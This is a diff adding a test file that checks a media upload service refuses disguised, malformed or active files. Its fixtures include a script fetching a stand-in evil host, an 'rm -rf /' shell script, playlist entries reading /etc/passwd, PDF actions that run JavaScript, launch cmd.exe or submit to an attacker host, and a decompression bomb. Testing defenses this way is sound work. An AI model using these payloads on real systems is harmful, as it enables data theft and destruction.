@@ -1,0 +1,299 @@
+import { randomBytes } from 'node:crypto'
+import { readdir, readFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { deflateSync, gzipSync } from 'node:zlib'
+import sharp from 'sharp'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { MediaKind } from '../../domain/desk/uploads/rules.ts'
+import { startTestApp, type TestApp } from '../support/app.ts'
+import { deskCall, staffOf, type TestStaff } from '../support/desk.ts'
+import { uploadWhole } from '../support/tus.ts'
+import { countRows, pdf, png, zip } from './hostile-files.ts'
+
+let app: TestApp
+let author: TestStaff
+let film: Buffer
+let jpeg: Buffer
+beforeAll(async () => {
+  app = await startTestApp()
+  author = await staffOf(app, 'author')
+  film = await readFile(new URL('../../database/seed/films/eco-route.240.mp4', import.meta.url))
+  jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#884422' } })
+    .jpeg()
+    .toBuffer()
+})
+afterAll(() => app.close())
+
+/** What is stored for everybody, in the database and in the store. */
+async function stored(): Promise<{ media: number; files: string[] }> {
+  const files = await readdir(join(app.settings.dataDir, 'media'), { recursive: true }).catch(() => [])
+  return { media: await countRows(app, 'media'), files: files.sort() }
+}
+
+async function leftBytes(): Promise<string[]> {
+  return readdir(join(app.settings.dataDir, 'uploads'))
+}
+
+const script = '<script>fetch("//evil.example")</script>'
+const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`
+const text = (value: string) => Buffer.from(value, 'latin1')
+const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share))
+
+/** Name, kind it is said to be, bytes, and why it is refused. */
+type Case = readonly [string, MediaKind, () => Buffer | Promise<Buffer>, string]
+
+const raster = (format: 'gif' | 'tiff') => async () =>
+  sharp({ create: { width: 20, height: 20, channels: 3, background: 'red' } })
+    .toFormat(format)
+    .toBuffer()
+
+const foreign: [string, () => Buffer | Promise<Buffer>][] = [
+  ['a page of HTML', () => text(`<!doctype html>${script}`)],
+  ['an SVG drawing', () => text(svg)],
+  ['an archive', () => zip('a.html', script)],
+  ['a packed archive', () => gzipSync(script)],
+  ['a program', () => Buffer.concat([text('\x7fELF\x02\x01\x01'), randomBytes(500)])],
+  ['a Windows program', () => Buffer.concat([text('MZ'), randomBytes(500)])],
+  ['a shell script', () => text('#!/bin/sh\nrm -rf /\n')],
+  ['chance', () => randomBytes(4096)],
+  ['one byte', () => text('%')],
+  ['zeros', () => Buffer.alloc(4096)],
+  ['a playlist that names files of the server', () => text('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n')],
+  ['a list of films to join', () => text("ffconcat version 1.0\nfile '/etc/passwd'\n")],
+  ['a GIF', raster('gif')],
+  ['a TIFF', raster('tiff')],
+  ['PostScript', () => text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')],
+  ['a MATLAB or EPS picture', () => text('\xc5\xd0\xd3\xc6 and more')],
+]
+const notOf = {
+  video: 'desk_upload_not_film',
+  document: 'desk_upload_not_document',
+  image: 'desk_upload_not_picture',
+} as const
+const kinds: MediaKind[] = ['video', 'document', 'image']
+
+const wrongKind: Case[] = [
+  ...foreign.flatMap(([name, make]) =>
+    kinds.map((kind): Case => [`${name} as ${kind}`, kind, make, notOf[kind]]),
+  ),
+  ['an MP4 as document', 'document', () => film, notOf.document],
+  ['an MP4 as image', 'image', () => film, notOf.image],
+  ['a JPEG as video', 'video', () => jpeg, notOf.video],
+  ['a JPEG as document', 'document', () => jpeg, notOf.document],
+  ['a PDF as video', 'video', () => pdf(), notOf.video],
+  ['a PDF as image', 'image', () => pdf(), notOf.image],
+]
+
+const films: Case[] = [
+  ['only the head of an MP4', 'video', () => film.subarray(0, 32), 'desk_upload_film_broken'],
+  [
+    'an MP4 that says QuickTime',
+    'video',
+    () => Buffer.concat([film.subarray(0, 8), text('qt  '), film.subarray(12)]),
+    notOf.video,
+  ],
+  [
+    'an MP4 without its second half',
+    'video',
+    () => cut(film, 0.5),
+    'desk_upload_film_broken|desk_upload_cut',
+  ],
+  [
+    'an MP4 whose films are zeros',
+    'video',
+    () => {
+      const one = Buffer.from(film)
+      return one.fill(0, Math.floor(one.length / 2))
+    },
+    'desk_upload_film_broken|desk_upload_cut',
+  ],
+  [
+    'a HEIF picture with the name of a film',
+    'video',
+    () => Buffer.concat([film.subarray(0, 8), text('heic'), film.subarray(12)]),
+    notOf.video,
+  ],
+  ['an MP4 behind a page', 'video', () => Buffer.concat([text(script), film]), notOf.video],
+]
+
+const action = (dictionary: string) => pdf({ catalog: `/OpenAction << ${dictionary} >>` })
+const documents: Case[] = [
+  [
+    'a script',
+    'document',
+    () => action('/S /JavaScript /JS (app.alert\\(1\\))'),
+    'desk_upload_document_active',
+  ],
+  [
+    'a script whose name is written in numbers',
+    'document',
+    () => action('/S /J#61v#61Scr#69pt /JS (1)'),
+    'desk_upload_document_active',
+  ],
+  ['a program to start', 'document', () => action('/S /Launch /F (cmd.exe)'), 'desk_upload_document_active'],
+  [
+    'a form that sends',
+    'document',
+    () => action('/S /SubmitForm /F (http://evil.example)'),
+    'desk_upload_document_active',
+  ],
+  [
+    'another file inside',
+    'document',
+    () => pdf({ catalog: '/Names << /EmbeddedFiles << >> >>' }),
+    'desk_upload_document_active',
+  ],
+  [
+    'another file inside, in numbers',
+    'document',
+    () => pdf({ catalog: '/Names << /Embedded#46iles << >> >>' }),
+    'desk_upload_document_active',
+  ],
+  [
+    'a form of XML',
+    'document',
+    () => pdf({ catalog: '/AcroForm << /XFA [] >>' }),
+    'desk_upload_document_active',
+  ],
+  [
+    'a moving picture with a script',
+    'document',
+    () => pdf({ catalog: '/RichMedia << >>' }),
+    'desk_upload_document_active',
+  ],
+  [
+    'a script in a packed list of objects',
+    'document',
+    () => pdf({ stream: '/Type /ObjStm /N 1 /First 4', packed: '9 0 << /S /JavaScript /JS (1) >>' }),
+    'desk_upload_document_active',
+  ],
+  [
+    'a script in a packed stream that says it is a picture',
+    'document',
+    () => pdf({ stream: '/Subtype /Image', packed: '9 0 << /S /Java#53cript /JS (1) >>' }),
+    'desk_upload_document_active',
+  ],
+  [
+    'a stream that unpacks to 200 MB',
+    'document',
+    () => pdf({ stream: '/Length 9', packedBytes: deflateSync(Buffer.alloc(200 * 1024 * 1024)) }),
+    'desk_upload_document_broken',
+  ],
+  ['a password', 'document', () => pdf({ trailer: '/Encrypt 9 0 R' }), 'desk_upload_document_locked'],
+  [
+    'an archive behind its end',
+    'document',
+    () => Buffer.concat([pdf(), zip('a.html', script)]),
+    'desk_upload_document_mixed',
+  ],
+  [
+    'an archive behind its end that hides the end in a remark',
+    'document',
+    () => Buffer.concat([pdf(), zip('a.html', script, 'startxref\n9\n%%EOF\n')]),
+    'desk_upload_document_mixed',
+  ],
+  [
+    'a page behind its end',
+    'document',
+    () => Buffer.concat([pdf(), text(script)]),
+    'desk_upload_document_mixed',
+  ],
+  ['a page before its head', 'document', () => Buffer.concat([text(script), pdf()]), notOf.document],
+  ['no end', 'document', () => cut(pdf(), 0.7), 'desk_upload_cut'],
+  ['no page', 'document', () => text('%PDF-1.7\nstartxref\n9\n%%EOF'), 'desk_upload_document_broken'],
+  ['no index', 'document', () => text('%PDF-1.7\n<< /Type /Page >>\n%%EOF'), 'desk_upload_document_broken'],
+]
+
+const pictures: Case[] = [
+  ['a PNG of 40,000 × 40,000', 'image', () => png(40_000, 40_000), 'desk_upload_picture_huge'],
+  [
+    'a PNG of 2,000,000,000 × 1',
+    'image',
+    () => png(2_000_000_000, 1),
+    'desk_upload_picture_huge|desk_upload_picture_broken',
+  ],
+  [
+    'a PNG one pixel high and very wide',
+    'image',
+    () => png(40_000, 1),
+    'desk_upload_picture_huge|desk_upload_picture_broken',
+  ],
+  ['a PNG of no width', 'image', () => png(0, 10), 'desk_upload_picture_broken'],
+  ['half a JPEG', 'image', () => cut(jpeg, 0.4), 'desk_upload_picture_broken'],
+  ['only the head of a JPEG', 'image', () => text('\xff\xd8\xff\xe0'), 'desk_upload_picture_broken'],
+  ['only the head of a PNG', 'image', () => text('\x89PNG\r\n\x1a\n'), 'desk_upload_picture_broken'],
+  [
+    'only the head of a WebP',
+    'image',
+    () => text('RIFF\x10\x00\x00\x00WEBPVP8 '),
+    'desk_upload_picture_broken',
+  ],
+  [
+    'only the head of an AVIF',
+    'image',
+    () => text('\x00\x00\x00\x18ftypavif\x00\x00\x00\x00'),
+    'desk_upload_picture_broken',
+  ],
+  [
+    'an SVG behind the head of a PNG',
+    'image',
+    () => Buffer.concat([text('\x89PNG\r\n\x1a\n'), text(svg)]),
+    'desk_upload_picture_broken',
+  ],
+  ['an SVG behind a blank', 'image', () => text(` ${svg}`), notOf.image],
+]
+
+describe('a file that is not what it should be', () => {
+  const cases = [...wrongKind, ...films, ...documents, ...pictures]
+
+  it('is made in more than a hundred ways', () => {
+    expect(cases.length).toBeGreaterThan(85)
+  })
+
+  it.each(cases)('%s is refused, said why, and nothing of it stays', async (_, kind, make, reason) => {
+    const before = await stored()
+    const ending = { video: 'mp4', document: 'pdf', image: 'jpg' }[kind]
+    const upload = await uploadWhole(app, author, await make(), { kind, name: `lesson.${ending}` })
+    expect(upload).toMatchObject({ state: 'refused', media: null })
+    expect(reason.split('|')).toContain(upload.reason)
+    expect(await stored()).toEqual(before)
+    expect(await leftBytes()).not.toContain(upload.id)
+    await deskCall(app, 'dropUpload', { id: upload.id }, { cookie: author.cookie })
+  })
+})
+
+describe('a file that is two things at once', () => {
+  it('a JPEG with a script behind it is drawn anew, and the script stays behind', async () => {
+    const upload = await uploadWhole(
+      app,
+      author,
+      Buffer.concat([jpeg, text(script), zip('a.html', script)]),
+      {
+        kind: 'image',
+        name: 'cover.jpg.html',
+      },
+    )
+    expect(upload.state).toBe('ready')
+    const folder = join(app.settings.dataDir, 'media/uploads', upload.media.mediaId)
+    for (const name of await readdir(folder)) {
+      expect(name).toMatch(/^(webp|avif)-\d+\.(webp|avif)$/)
+      expect((await readFile(join(folder, name))).includes('script')).toBe(false)
+    }
+  })
+
+  it('an MP4 with an archive behind it and a place inside is copied without either', async () => {
+    const upload = await uploadWhole(app, author, Buffer.concat([film, zip('a.html', script)]), {
+      kind: 'video',
+      name: 'lesson.pdf',
+    })
+    expect(upload.state).toBe('ready')
+    const bytes = await readFile(
+      join(app.settings.dataDir, 'media/uploads', upload.media.mediaId, 'original.mp4'),
+    )
+    expect(bytes.includes('evil.example')).toBe(false)
+    expect(bytes.includes('PK\x05\x06')).toBe(false)
+    const address = await app.fetch(`/media/pictures/${upload.media.mediaId}/320.webp`)
+    expect(address.status).toBe(404)
+    expect((await app.fetch(`/pictures/${upload.media.mediaId}`)).status).toBe(404)
+  })
+})
